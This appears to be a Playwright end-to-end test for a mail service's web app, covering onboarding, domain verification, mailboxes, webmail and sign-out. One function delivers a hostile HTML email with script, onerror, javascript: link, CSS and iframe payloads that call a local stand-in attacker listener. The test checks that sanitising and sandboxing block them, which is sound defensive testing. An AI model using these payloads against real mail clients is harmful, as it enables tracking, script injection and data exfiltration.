@@ -1,0 +1,454 @@
+"""The web app in a real browser (Debian's chromium, driven by Playwright).
+
+Run by tests/api/web.rs, which starts the service and a harness beside it:
+  WEB_BASE            the service (the app is at /)
+  WEB_HARNESS         GET /code?to=, POST /dns (records), POST /deliver (raw message)
+  WEB_OPERATOR_TOKEN  an operator identity token
+  WEB_SHOTS           where the screenshots go (desktop and 360 px of every page)
+
+A person onboards (an operator approves the request), adds and verifies a
+domain against the test DNS server, adds mailboxes, reads a delivered message
+as a thread, replies with an attachment, archives it and sees the reply in the
+thread; a malicious HTML mail runs and fetches nothing; an operator pauses
+sending; the pasted key is gone after sign-out. Any console error fails.
+"""
+
+import http.server
+import json
+import os
+import re
+import sys
+import threading
+import urllib.request
+
+from playwright.sync_api import expect, sync_playwright
+
+BASE = os.environ["WEB_BASE"]
+HARNESS = os.environ["WEB_HARNESS"]
+OPERATOR_TOKEN = os.environ["WEB_OPERATOR_TOKEN"]
+SHOTS = os.environ["WEB_SHOTS"]
+CHROMIUM = os.environ.get("WEB_CHROMIUM", "/usr/bin/chromium")
+
+PERSON = "ann@newco.example"
+DOMAIN = "newco.example"
+
+
+def harness(path, body=None, raw=None):
+    data = raw.encode() if raw is not None else (json.dumps(body).encode() if body is not None else None)
+    req = urllib.request.Request(HARNESS + path, data=data, method="POST" if data is not None else "GET")
+    if body is not None:
+        req.add_header("Content-Type", "application/json")
+    with urllib.request.urlopen(req, timeout=30) as res:
+        return res.read().decode()
+
+
+class Watch:
+    """Console errors, page errors and dialogs of one page, and every URL it asked for."""
+
+    def __init__(self, page, name):
+        self.name, self.errors, self.urls, self.allowed = name, [], [], []
+        page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
+        page.on("pageerror", lambda e: self.errors.append(f"page error: {e}"))
+        page.on("dialog", lambda d: self.errors.append(f"dialog: {d.message}"))
+        page.on("request", lambda r: self.urls.append(r.url))
+        # A request the policy blocked is announced but fails; these got an answer.
+        self.answered = []
+        page.on("response", lambda r: self.answered.append(r.url))
+
+    def expect_refusal(self, status):
+        """The next console line 'Failed to load resource ... <status>' is a refusal the step wants."""
+        self.allowed.append(f"status of {status}")
+
+    def check(self):
+        unexpected = []
+        for e in self.errors:
+            hit = next((a for a in self.allowed if "Failed to load resource" in e and a in e), None)
+            if hit:
+                self.allowed.remove(hit)
+            else:
+                unexpected.append(e)
+        assert not unexpected, f"{self.name}: console errors: {unexpected}"
+        self.errors = []
+
+
+shot_names = []
+
+
+def shot(page, name):
+    """The page at desktop width, then at 360 px, then back."""
+    os.makedirs(SHOTS, exist_ok=True)
+    size = page.viewport_size
+    page.screenshot(path=f"{SHOTS}/{name}-desktop.png", full_page=True)
+    page.set_viewport_size({"width": 360, "height": 760})
+    page.wait_for_timeout(100)
+    width = page.evaluate("document.documentElement.scrollWidth")
+    assert width <= 362, f"{name}: {width}px wide at 360"
+    page.screenshot(path=f"{SHOTS}/{name}-narrow.png", full_page=True)
+    page.set_viewport_size(size)
+    shot_names.append(name)
+
+
+def new_page(browser, name):
+    context = browser.new_context(viewport={"width": 1280, "height": 860}, permissions=["clipboard-read", "clipboard-write"])
+    page = context.new_page()
+    return page, Watch(page, name)
+
+
+def nav(page, name):
+    page.locator("#nav").get_by_role("link", name=name, exact=True).click()
+    expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()
+
+
+def sign_in(page, credential):
+    page.goto(BASE + "/")
+    page.get_by_label("Key or identity token").fill(credential)
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.locator("#nav")).to_be_visible()
+
+
+def serving(browser):
+    page, watch = new_page(browser, "start")
+    res = page.goto(BASE + "/")
+    headers = res.headers
+    csp = headers["content-security-policy"]
+    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp, csp
+    assert headers["x-frame-options"] == "DENY", headers
+    assert headers["cache-control"] == "no-cache", headers
+    asset = next(u for u in watch.urls if u.endswith("/main.js"))
+    assert re.search(r"/app/[0-9a-f]{12}/main\.js$", asset), asset
+    with urllib.request.urlopen(asset) as a:
+        assert "immutable" in a.headers["cache-control"]
+        assert a.headers["x-frame-options"] == "DENY"
+    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
+    shot(page, "sign-in")
+    watch.check()
+    page.context.close()
+
+
+def request_access(page, watch):
+    page.goto(BASE + "/")
+    form = page.get_by_role("form", name="Request access")
+    form.get_by_label("Your email").fill(PERSON)
+    form.get_by_label("Organization domain").fill(DOMAIN)
+    form.get_by_label("Agent name").fill("Ann's helper")
+    form.get_by_label("What you will use it for").fill("Replies to customers")
+    form.get_by_role("button", name="Email me a code").click()
+    code_form = page.get_by_role("form", name="Enter the code")
+    expect(code_form).to_be_visible()
+    # A wrong code: the API's sentence beside the form, and the input kept.
+    code_form.get_by_label("Code from the email").fill("00000000")
+    watch.expect_refusal(401)
+    code_form.get_by_role("button", name="Verify code").click()
+    expect(page.get_by_role("alert")).to_be_visible()
+    code_form.get_by_label("Code from the email").fill(harness(f"/code?to={PERSON}"))
+    code_form.get_by_role("button", name="Verify code").click()
+
+
+def operator_approves(browser):
+    page, watch = new_page(browser, "operator")
+    sign_in(page, OPERATOR_TOKEN)
+    nav(page, "Operators")
+    expect(page.get_by_role("heading", name="Access requests")).to_be_visible()
+    page.get_by_role("form", name="Find access requests").get_by_label("Contact email").fill(PERSON)
+    page.get_by_role("button", name="Find requests").click()
+    row = page.locator("tr[data-request]").first
+    expect(row).to_be_visible()
+    row.get_by_role("button", name="Approve").click()
+    expect(row.locator(".status")).to_have_text(re.compile("ready|approved"))
+    shot(page, "operator")
+    watch.check()
+    return page, watch
+
+
+def person_gets_key(page, watch):
+    request_access(page, watch)
+    warning = page.get_by_text("Store this key now")
+    expect(warning).to_be_visible()
+    key = page.locator(".key-once code.secret").inner_text()
+    assert key and len(key) > 20
+    page.get_by_role("button", name="Copy the key").click()
+    expect(page.get_by_role("button", name="Copy the key")).to_have_text(re.compile("Copied|Selected"))
+    shot(page, "key-once")
+    page.get_by_role("button", name="I stored it: continue").click()
+    expect(page.locator("#nav")).to_be_visible()
+    watch.check()
+    return key
+
+
+def domain(page, watch):
+    nav(page, "Domain")
+    form = page.get_by_role("form", name="Add domain")
+    form.get_by_label("Domain you own").fill(DOMAIN)
+    form.get_by_role("button", name="Add domain").click()
+    rows = page.locator("tr[data-record]")
+    expect(rows.first).to_be_visible()
+    records = []
+    for i in range(rows.count()):
+        r = rows.nth(i)
+        purpose = r.get_attribute("data-record")
+        if purpose == "dmarc":
+            continue
+        priority = r.locator(".priority").inner_text().strip()
+        records.append({
+            "type": r.locator(".type").inner_text().strip(),
+            "host": r.locator("code.host").inner_text().strip(),
+            "value": r.locator("code.value").inner_text().strip(),
+            "priority": int(priority) if priority else None,
+        })
+    assert {r["type"] for r in records} == {"MX", "TXT"}, records
+    # Nothing published yet: the check marks the rows missing.
+    page.get_by_role("button", name="Check now").click()
+    expect(page.locator('td.mark[data-purpose="mx"]')).to_have_text("missing or wrong")
+    harness("/dns", body=records)
+    page.get_by_role("button", name="Check now").click()
+    expect(page.locator('td.mark[data-purpose="dkim"]')).to_have_text("found")
+    expect(page.locator("[data-domain-status]")).to_have_text("verified")
+    expect(page.locator(".next-step")).not_to_contain_text("verifyDomain")
+    shot(page, "domain")
+    watch.check()
+
+
+def mailboxes(page, watch):
+    nav(page, "Mailboxes")
+    add = page.get_by_role("form", name="Add mailbox")
+    add.get_by_label(re.compile("^Name")).fill("ann")
+    add.get_by_role("button", name="Add mailbox").click()
+    expect(page.locator('tr[data-mailbox="ann@newco.example"]')).to_contain_text("pending")
+    # A forward without a target: the API's sentence, and the form keeps its input.
+    add = page.get_by_role("form", name="Add mailbox")
+    add.get_by_label(re.compile("^Name")).fill("sales")
+    add.get_by_label("Mode").select_option("forward")
+    watch.expect_refusal(400)
+    add.get_by_role("button", name="Add mailbox").click()
+    expect(add.get_by_role("alert")).to_be_visible()
+    expect(add.get_by_label(re.compile("^Name"))).to_have_value("sales")
+    add.get_by_label("Forward to").fill("sales@partner.example")
+    add.get_by_role("button", name="Add mailbox").click()
+    expect(page.locator('tr[data-mailbox="sales@newco.example"]')).to_contain_text("forward")
+    # Delete it again; the last mailbox cannot be deleted.
+    page.locator('tr[data-mailbox="sales@newco.example"]').get_by_role("button", name="Delete").click()
+    page.get_by_role("button", name="Delete sales@newco.example").click()
+    expect(page.locator('tr[data-mailbox="sales@newco.example"]')).to_have_count(0)
+    page.locator('tr[data-mailbox="ann@newco.example"]').get_by_role("button", name="Delete").click()
+    watch.expect_refusal(409)
+    page.get_by_role("button", name="Delete ann@newco.example").click()
+    expect(page.get_by_role("alert")).to_contain_text("last mailbox")
+    page.locator('tr[data-mailbox="ann@newco.example"]').get_by_role("button", name=re.compile("IMAP.SMTP password")).click()
+    expect(page.get_by_text("Store this password now")).to_be_visible()
+    expect(page.locator(".settings")).to_contain_text("993")
+    shot(page, "mailboxes")
+    watch.check()
+
+
+RECEIVED = """Delivered-To: ann@newco.example\r
+From: Pal <pal@partner.example>\r
+To: ann@newco.example\r
+Subject: Plans for Friday\r
+Message-ID: <plans@partner.example>\r
+Date: Tue, 24 Nov 2026 10:00:00 +0000\r
+MIME-Version: 1.0\r
+Content-Type: text/plain; charset=utf-8\r
+\r
+Shall we meet at noon?\r
+"""
+
+
+def webmail(page, watch):
+    harness("/deliver", raw=RECEIVED)
+    nav(page, "Mail")
+    thread = page.locator("ul.threads li[data-thread]").first
+    expect(thread).to_have_class(re.compile("unread"))
+    expect(thread).to_contain_text("Plans for Friday")
+    shot(page, "mail")
+    thread.get_by_role("link").click()
+    expect(page.locator("article.message")).to_contain_text("Shall we meet at noon?")
+    shot(page, "thread")
+    page.get_by_role("button", name="Reply").click()
+    compose = page.get_by_role("form", name="Reply")
+    expect(compose.get_by_label("To")).to_have_value("pal@partner.example")
+    compose.get_by_label("Message").fill("Noon works. The agenda is attached.")
+    compose.get_by_label("Attachments").set_input_files(
+        files=[{"name": "agenda.txt", "mimeType": "text/plain", "buffer": b"1. Lunch\n2. Plans\n"}]
+    )
+    shot(page, "compose")
+    compose.get_by_role("button", name="Send").click()
+    messages = page.locator("article.message")
+    expect(messages).to_have_count(2)
+    reply = page.locator("article.message.outbound")
+    expect(reply).to_contain_text("Noon works")
+    expect(reply).to_contain_text("agenda.txt")
+    # The attachment downloads as sent, and previews inline.
+    with page.expect_download() as dl:
+        reply.get_by_role("button", name="Download agenda.txt").click()
+    path = dl.value.path()
+    assert open(path, "rb").read() == b"1. Lunch\n2. Plans\n"
+    reply.get_by_role("button", name="Preview").click()
+    expect(reply.locator("pre.text-preview")).to_contain_text("Lunch")
+    # Archive: gone from the inbox, in the archive with the reply.
+    page.get_by_role("button", name="Archive").click()
+    expect(page.locator("ul.threads")).to_contain_text("Nothing in inbox")
+    page.get_by_role("tab", name="Archive").click()
+    archived = page.locator("ul.threads li[data-thread]").first
+    expect(archived).to_contain_text("Plans for Friday")
+    archived.get_by_role("link").click()
+    expect(page.locator("article.message")).to_have_count(2)
+    expect(page.locator("article.message.outbound")).to_contain_text("Noon works")
+    page.get_by_role("button", name="Mark unread").click()
+    page.get_by_role("tab", name="Archive").click()
+    expect(page.locator("ul.threads li[data-thread]").first).to_have_class(re.compile("unread"))
+    # Search finds it.
+    page.get_by_role("searchbox", name="Search").fill("Friday")
+    page.get_by_role("button", name="Search", exact=True).click()
+    expect(page.locator("ul.threads")).to_contain_text("Plans for Friday")
+    watch.check()
+
+
+class Listener(http.server.BaseHTTPRequestHandler):
+    """The 'other site': every request it gets is counted."""
+
+    hits = []
+
+    def _count(self):
+        Listener.hits.append(f"{self.command} {self.path}")
+        self.send_response(200)
+        self.send_header("Content-Type", "image/gif")
+        self.end_headers()
+
+    do_GET = do_POST = _count
+
+    def log_message(self, *args):
+        pass
+
+
+def malicious(page, watch):
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    evil = f"http://127.0.0.1:{server.server_address[1]}"
+    html = f"""<html><head>
+<meta http-equiv="refresh" content="0;url={evil}/refresh">
+<style>@import url({evil}/import.css); body {{ background: url({evil}/bg.png); }}
+input[value^="a"] {{ background-image: url({evil}/exfil-a); }}</style>
+<link rel="stylesheet" href="{evil}/link.css">
+</head><body>
+<script>window.top.postMessage('ran','*'); new Image().src='{evil}/script';</script>
+<img src="x" onerror="fetch('{evil}/onerror')">
+<img src="{evil}/pixel.gif" alt="tracker">
+<p style="background:url({evil}/inline-style)">Hello Ann</p>
+<form action="{evil}/form" method="post"><input name="q" value="abc"><button>Go</button></form>
+<a href="javascript:fetch('{evil}/js-link')" id="jslink">click me</a>
+<a href="{evil}/page" id="plain">a plain link</a>
+<iframe src="{evil}/frame"></iframe>
+<svg><script>fetch('{evil}/svg')</script></svg>
+</body></html>"""
+    raw = (
+        "Delivered-To: ann@newco.example\r\nFrom: Mallory <m@evil.example>\r\nTo: ann@newco.example\r\n"
+        "Subject: Totally harmless\r\nMessage-ID: <evil@evil.example>\r\nMIME-Version: 1.0\r\n"
+        'Content-Type: multipart/alternative; boundary="b"\r\n\r\n'
+        "--b\r\nContent-Type: text/plain\r\n\r\nHello Ann\r\n"
+        f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--b--\r\n"
+    )
+    harness("/deliver", raw=raw)
+    page.evaluate("window.__messages = []; window.addEventListener('message', e => window.__messages.push(e.data))")
+    nav(page, "Mail")
+    page.get_by_role("tab", name="Inbox").click()
+    page.locator("ul.threads li[data-thread]", has_text="Totally harmless").get_by_role("link").click()
+    frame_el = page.locator("iframe.mail-html")
+    expect(frame_el).to_be_visible()
+    assert frame_el.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
+    frame = frame_el.content_frame
+    expect(frame.locator("body")).to_contain_text("Hello Ann")
+    assert frame.locator("#plain").get_attribute("rel") == "noopener noreferrer"
+    assert frame.locator("#jslink").get_attribute("href") is None
+    expect(page.get_by_role("button", name="Show images")).to_be_visible()
+    frame.locator("#jslink").click()
+    page.wait_for_timeout(1500)
+    shot(page, "malicious-mail")
+    # The cleaned mail did not even try.
+    tried = [u for u in watch.urls if u.startswith(evil)]
+    assert tried == [] and Listener.hits == [], (tried, Listener.hits)
+    # The second layer alone: the raw HTML, not cleaned, in a frame like the
+    # app's, with the frame's own policy.
+    page.evaluate(
+        """async (html) => {
+            const m = await import(document.querySelector('script[type=module]').src.replace('main.js', 'message.js'));
+            const f = document.createElement('iframe');
+            f.setAttribute('sandbox', 'allow-popups allow-popups-to-escape-sandbox');
+            f.id = 'raw-frame';
+            f.srcdoc = m.frameDocument(html, false);
+            document.body.append(f);
+        }""",
+        html,
+    )
+    page.wait_for_timeout(2500)
+    raw_frame = page.frame_locator("#raw-frame")
+    raw_frame.locator("#jslink").click()
+    raw_frame.locator("form button").click()
+    page.wait_for_timeout(1000)
+    assert Listener.hits == [], f"the mail reached out: {Listener.hits}"
+    assert page.evaluate("window.__messages") == [], "a script in the mail ran"
+    answered = [u for u in watch.answered if u.startswith(evil)]
+    assert answered == [], answered
+    # The raw frame's blocks are the policy at work: its console lines are expected.
+    watch.errors = [e for e in watch.errors if "Content Security Policy" not in e and "sandbox" not in e.lower()]
+    page.evaluate("document.getElementById('raw-frame').remove()")
+    server.shutdown()
+    watch.check()
+
+
+def operator_pauses(page, watch):
+    nav(page, "Agent settings")
+    expect(page.locator("[data-sending]")).to_have_attribute("data-sending", "on")
+    page.get_by_role("button", name="Pause all sending").click()
+    expect(page.locator("[data-sending]")).to_have_attribute("data-sending", "paused")
+    shot(page, "agent-settings")
+    page.get_by_role("button", name="Resume all sending").click()
+    expect(page.locator("[data-sending]")).to_have_attribute("data-sending", "on")
+    nav(page, "Operators")
+    page.get_by_role("form", name="Allowlist a domain").get_by_label("Domain").fill("friends.example")
+    page.get_by_role("button", name="Allowlist").click()
+    expect(page.locator("table")).to_contain_text("friends.example")
+    watch.check()
+
+
+def signs_out(page, watch, key):
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
+    storage = page.evaluate("JSON.stringify([Object.entries(sessionStorage), Object.entries(localStorage)])")
+    assert key not in storage, storage
+    page.reload()
+    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
+    assert page.evaluate("sessionStorage.length + localStorage.length") == 0
+    cookies = page.context.cookies()
+    assert cookies == [], cookies
+    leaked = [u for u in watch.urls if key in u]
+    assert leaked == [], leaked
+    watch.check()
+
+
+def main():
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        serving(browser)
+        page, watch = new_page(browser, "person")
+        request_access(page, watch)
+        expect(page.get_by_role("status")).to_be_visible()
+        watch.check()
+        op_page, op_watch = operator_approves(browser)
+        key = person_gets_key(page, watch)
+        domain(page, watch)
+        mailboxes(page, watch)
+        webmail(page, watch)
+        malicious(page, watch)
+        operator_pauses(op_page, op_watch)
+        signs_out(page, watch, key)
+        signs_out(op_page, op_watch, OPERATOR_TOKEN)
+        browser.close()
+    print(json.dumps({"screenshots": shot_names}))
+
+
+if __name__ == "__main__":
+    try:
+        main()
+    except AssertionError as e:
+        print(f"FAILED: {e}", file=sys.stderr)
+        raise
